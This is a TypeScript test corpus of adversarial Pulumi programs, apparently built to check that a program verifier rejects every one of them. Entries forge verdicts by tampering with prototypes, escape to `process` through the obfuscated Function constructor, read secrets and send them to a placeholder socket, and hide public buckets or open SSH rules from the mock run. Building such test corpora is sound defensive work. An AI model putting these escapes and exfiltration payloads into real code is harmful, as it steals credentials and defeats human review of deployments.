/**
 * Attacks on the verdict itself (issue 24, classes 1 to 4), written from the issue's descriptions: programs
 * that try to decide their own verdict, carry a payload for `pulumi up`, hide what they do from the mock run,
 * or spoof what they register. Each program is broken or hostile, so it must never come out verified; the
 * blinding ones also fail when run straight through the rungs (no gate, no typecheck). Placeholders as in
 * `corpus.ts`: `__SECRET_FILE__`, `__OUT_FILE__`, `__HOST_DIR__`, `__PORT__`, `__MARKER__`.
 */
import type { Attack } from './corpus.js';

export interface VerdictAttack extends Attack {
  /** 1: the verdict forged, 2: a payload for `pulumi up`, 3: what the mock run does not execute, 4: spoofs. */
  readonly issueClass: 1 | 2 | 3 | 4;
  /** The planned component the intent rung holds the program to (a type token); default an S3 bucket. */
  readonly planned?: string;
}

const HEADER = `import * as pulumi from '@pulumi/pulumi';
import * as aws from '@pulumi/aws';
`;

/** A program that is broken (it throws) after doing `trick`: verified only if the trick forged the verdict. */
function forgery(name: string, trick: string): VerdictAttack {
  return {
    name,
    issueClass: 1,
    execute: true,
    blinds: true,
    source: `${HEADER}new aws.s3.Bucket('site');
${trick}
throw new Error('the program failed after its trick');
`,
  };
}

/** What a payload does once it holds `process`: read the environment and a host secret, send them out. */
const PAYLOAD = `(p: any): string => {
  let loot = String(p.env.PULUMI_GEN_ATTACK_SECRET ?? '');
  try { loot += p.getBuiltinModule('fs').readFileSync('__SECRET_FILE__', 'utf8'); } catch (e) { loot += ''; }
  try { p.getBuiltinModule('fs').writeFileSync('__OUT_FILE__', 'escaped'); } catch (e) { loot += ''; }
  try { const s = p.getBuiltinModule('net').connect(__PORT__, '127.0.0.1'); s.on('error', () => undefined); s.end(loot); } catch (e) { loot += ''; }
  try { p.getBuiltinModule('child_process').spawn(p.execPath, ['-e', 'setInterval(() => {}, 1000)', '__MARKER__'], { detached: true, stdio: 'ignore' }).unref(); } catch (e) { loot += ''; }
  return loot;
}`;

/**
 * A payload for `pulumi up`: `obtain` yields `process` by a route the gate cannot read by name; the payload
 * swallows every error, so only the run's own record of the access can fail it.
 */
function payload(name: string, obtain: string, prelude = ''): VerdictAttack {
  return {
    name,
    issueClass: 2,
    execute: true,
    blinds: true,
    source: `${HEADER}${prelude}
const steal = ${PAYLOAD};
let loot = '';
try { loot = steal(${obtain}); } catch (e) { loot = ''; }
new aws.s3.Bucket('site', { tags: { loot: loot.slice(0, 10) } });
`,
  };
}

/** A broken value (an enum a typecheck admits) the program tries to keep out of the mock run's sight. */
const BROKEN = `{ bucket: 'site', versioningConfiguration: { status: 'enabled' as string } }`;

function hidden(name: string, source: string, execute = true): VerdictAttack {
  return { name, issueClass: 3, execute, blinds: true, source: `${HEADER}${source}` };
}

export const VERDICT_ATTACKS: readonly VerdictAttack[] = [
  // 1. The program decides its own verdict.
  forgery(
    'an error the runner cannot serialise (a Proxy with throwing traps)',
    `const trap = () => { throw new Error('no'); };
throw new Proxy({}, { get: trap, getPrototypeOf: trap, ownKeys: trap, getOwnPropertyDescriptor: trap });`,
  ),
  forgery(
    'an Error whose message is a getter that throws',
    `const error = new Error('x');
Object.defineProperty(error, 'message', { get() { throw new Error('unreadable'); } });
throw error;`,
  ),
  forgery(
    'a huge message that kills a child that writes it',
    `throw new Error('x'.repeat(300 * 1024 * 1024));`,
  ),
  forgery(
    'an aliased JSON replaced before the throw',
    `const J: any = JSON;
J.stringify = () => '{"registrations":[],"invokes":[],"calls":[],"errors":[],"completed":true}';`,
  ),
  forgery(
    'Array.prototype.push and toJSON replaced through aliases',
    `const A: any = Array;
const proto = 'proto' + 'type';
const P: any = A[proto];
P.push = function () { return 0; };
P.toJSON = function () { return []; };`,
  ),
  forgery(
    'Object.prototype.toJSON rewriting the result',
    `const O: any = Object;
const name = ['proto', 'type'].join('');
O[name].toJSON = function (this: any) { return { ...this, errors: [] }; };`,
  ),
  forgery(
    'a forged root resource given outputs, then the throw',
    `const fake = new pulumi.ComponentResource('pulumi:pulumi:Stack', 'forged-root', {}, {});
fake.registerOutputs({});`,
  ),
  forgery(
    'a forged root resource, then an abort through process',
    `const fake = new pulumi.ComponentResource('pulumi:pulumi:Stack', 'forged-root', {}, {});
fake.registerOutputs({});
const key = 'constructor';
const F: any = ((() => 0) as any)[key];
F('return process')().exit(0);`,
  ),
  forgery(
    'the result path swapped for a directory',
    `const key = ['con', 'structor'].join('');
const p: any = ((() => 0) as any)[key]('return process')();
const fs = p.getBuiltinModule('fs');
const job = JSON.parse(fs.readFileSync(p.argv[2], 'utf8'));
fs.mkdirSync(job.resultFile, { recursive: true });`,
  ),
  forgery(
    'a stack-trace formatter that makes program frames look like the SDK',
    `const E: any = Error;
E.prepareStackTrace = () => '    at x (/node_modules/@pulumi/pulumi/runtime/rpc.js:1:1)';
E.stackTraceLimit = 0;
const key = 'constructor';
((() => 0) as any)[key]('return process')().exit(0);`,
  ),
  forgery(
    'Promise.prototype.then replaced to swallow the rejection',
    `const P: any = Promise;
const key = 'proto' + 'type';
const then = P[key].then;
P[key].then = function (this: any, ok: any) { return then.call(this, ok, () => ok(undefined)); };`,
  ),
  {
    name: 'a throw from a timer after the stack completed',
    issueClass: 1,
    execute: true,
    blinds: true,
    source: `${HEADER}new aws.s3.Bucket('site');
setTimeout(() => {
  throw new Error('late failure after completion');
}, 200);
`,
  },
  {
    name: 'an unserialisable rejection from a timer after completion',
    issueClass: 1,
    execute: true,
    blinds: true,
    source: `${HEADER}new aws.s3.Bucket('site');
setTimeout(() => {
  void Promise.reject(new Proxy({}, { get() { throw new Error('no'); } }));
}, 200);
`,
  },

  // 2. A payload for `pulumi up`.
  payload(
    'the constructor key held in a variable',
    `((() => 0) as any)[key]('return process')()`,
    `const key = 'constructor';`,
  ),
  payload(
    'the constructor key from configuration',
    `((() => 0) as any)[key]('return process')()`,
    `const key = new pulumi.Config().get('reflect') ?? ['con', 'structor'].join('');`,
  ),
  payload(
    'the constructor reached through a helper whose parameter is a typed record',
    `pick(pick as unknown as Record<string, any>, key)('return process')()`,
    `const key = 'constr' + 'uctor'.toString();
function pick(from: Record<string, any>, name: string): any { return from[name]; }`,
  ),
  payload(
    'two computed steps from a plain object',
    `(box as any)[key][key]('return process')()`,
    `const box = { size: 't3.micro' };
const key = ['con', 'structor'].join('');`,
  ),
  payload(
    'the async function constructor',
    `(async () => 0 as any)[key]('return process')().then((p: any) => p)`,
    `const key = 'constructor';`,
  ),
  payload(
    'the function constructor passed to the SDK to call',
    `(() => { const F: any = ((() => 0) as any)[key]; pulumi.output('return process').apply(F).apply((f: any) => steal(f())); return { env: {} }; })()`,
    `const key = 'constructor';`,
  ),
  {
    name: 'fetch to the network',
    issueClass: 2,
    execute: true,
    blinds: true,
    source: `${HEADER}void fetch('http://127.0.0.1:__PORT__/x').catch(() => undefined);
new aws.s3.Bucket('site');
`,
  },
  {
    name: 'a payload that runs only when the ids are known (pulumi up)',
    issueClass: 2,
    execute: true,
    blinds: true,
    source: `${HEADER}const bucket = new aws.s3.Bucket('site');
const key = 'constructor';
export const id = bucket.id.apply((value) => {
  try {
    const p: any = ((() => 0) as any)[key]('return process')();
    return value + String(p.env.PULUMI_GEN_ATTACK_SECRET ?? '').length;
  } catch (e) {
    return value;
  }
});
`,
  },
  {
    name: 'a payload from a timer after the stack completed',
    issueClass: 2,
    execute: true,
    blinds: true,
    source: `${HEADER}new aws.s3.Bucket('site');
const key = 'constructor';
setTimeout(() => {
  try {
    const p: any = ((() => 0) as any)[key]('return process')();
    p.getBuiltinModule('fs').writeFileSync('__OUT_FILE__', 'escaped');
  } catch (e) {
    /* swallowed */
  }
}, 300);
`,
  },

  // 3. What the mock run does not execute.
  hidden(
    'a resource declared from a timer after the stack completed',
    `new aws.s3.Bucket('site');
setTimeout(() => {
  new aws.s3.BucketVersioning('late', ${BROKEN});
}, 300);
`,
  ),
  hidden(
    'a resource declared inside an apply on an unknown id',
    `const bucket = new aws.s3.Bucket('site');
bucket.id.apply((id) => new aws.s3.BucketVersioning('hidden', { bucket: id, versioningConfiguration: { status: 'enabled' as string } }));
`,
  ),
  hidden(
    'an invalid value hidden behind an apply on a resource the preview sees',
    `const bucket = new aws.s3.Bucket('site');
new aws.s3.BucketVersioning('v', { bucket: bucket.id, versioningConfiguration: { status: bucket.id.apply(() => 'enabled') } });
`,
  ),
  hidden(
    'a public ACL hidden behind an apply',
    `const bucket = new aws.s3.Bucket('site');
new aws.s3.BucketAclV2('acl', { bucket: bucket.id, acl: bucket.id.apply(() => 'public-read') });
`,
  ),
  hidden(
    'a world-open SSH rule hidden behind an apply',
    `const vpc = new aws.ec2.Vpc('main', { cidrBlock: '10.0.0.0/16' });
new aws.ec2.SecurityGroup('ssh', {
  vpcId: vpc.id,
  ingress: [{ protocol: 'tcp', fromPort: 22, toPort: 22, cidrBlocks: [vpc.id.apply(() => '0.0.0.0/0')] }],
});
`,
  ),
  hidden(
    'behaviour switched on the old placeholder prefix of config values',
    `const size = new pulumi.Config().get('mode') ?? 'normal';
const status = size.startsWith('placeholder-') ? 'Enabled' : 'enabled';
new aws.s3.BucketVersioning('v', { bucket: 'site', versioningConfiguration: { status } });
`,
  ),
  hidden(
    'behaviour switched on the mock- prefix of lookup answers',
    `const zones = aws.getAvailabilityZonesOutput({ state: 'available' });
new aws.s3.BucketVersioning('v', {
  bucket: 'site',
  versioningConfiguration: { status: zones.names.apply((names) => (String(names[0]).startsWith('mock-') ? 'Enabled' : 'enabled')) },
});
`,
  ),
  hidden(
    'a getter that gives the verifier one value and the SDK another',
    `let reads = 0;
const args: any = { bucket: 'site' };
Object.defineProperty(args, 'versioningConfiguration', {
  enumerable: true,
  get() {
    reads += 1;
    return { status: reads === 1 ? 'enabled' : 'Enabled' };
  },
});
new aws.s3.BucketVersioning('v', args);
`,
  ),
  hidden(
    'a getter that hides an unknown input from the raw-argument check',
    `let reads = 0;
const args: any = { bucket: 'site', versioningConfiguration: { status: 'Enabled' } };
Object.defineProperty(args, 'notAnInput', { enumerable: true, get() { reads += 1; return reads > 1 ? 'x' : undefined; } });
new aws.s3.BucketVersioning('v', args);
`,
  ),
  hidden(
    'resource arguments that are a Proxy',
    `const args: any = new Proxy({ bucket: 'site', versioningConfiguration: { status: 'Enabled' } }, {});
new aws.s3.BucketVersioning('v', args);
`,
  ),
  hidden(
    'a branch on isDryRun',
    `if (!pulumi.runtime.isDryRun()) {
  new aws.s3.BucketVersioning('up-only', ${BROKEN});
}
new aws.s3.Bucket('site');
`,
  ),

  // 4. Spoofed registrations.
  {
    name: "a component resource claiming a provider's type token",
    issueClass: 4,
    execute: true,
    blinds: true,
    source: `${HEADER}class Bucket extends pulumi.ComponentResource {
  constructor(name: string) {
    super('aws:s3/bucket:Bucket', name, {}, {});
    this.registerOutputs({});
  }
}
new Bucket('site');
`,
  },
  {
    name: 'a .get() read standing for the planned create',
    issueClass: 4,
    execute: true,
    source: `${HEADER}export const existing = aws.s3.Bucket.get('site', 'someone-elses-bucket').arn;
`,
  },
  {
    name: 'a raw CustomResource subclass with inputs the type does not have',
    issueClass: 4,
    execute: true,
    blinds: true,
    source: `${HEADER}class RawBucket extends pulumi.CustomResource {
  constructor(name: string, args: Record<string, unknown>) {
    super('aws:s3/bucket:Bucket', name, args, {});
  }
}
new RawBucket('site', { bucket: 'site', notAnInput: 'x', websiteIndex: 'index.html' });
`,
  },
  {
    name: 'a raw CustomResource subclass with an invalid nested value',
    issueClass: 4,
    execute: true,
    blinds: true,
    planned: 'aws:s3/bucketVersioning:BucketVersioning',
    source: `${HEADER}class RawVersioning extends pulumi.CustomResource {
  constructor(name: string, args: Record<string, unknown>) {
    super('aws:s3/bucketVersioning:BucketVersioning', name, args, {});
  }
}
new RawVersioning('v', { bucket: 'site', versioningConfiguration: { status: 'enabled' } });
`,
  },
];
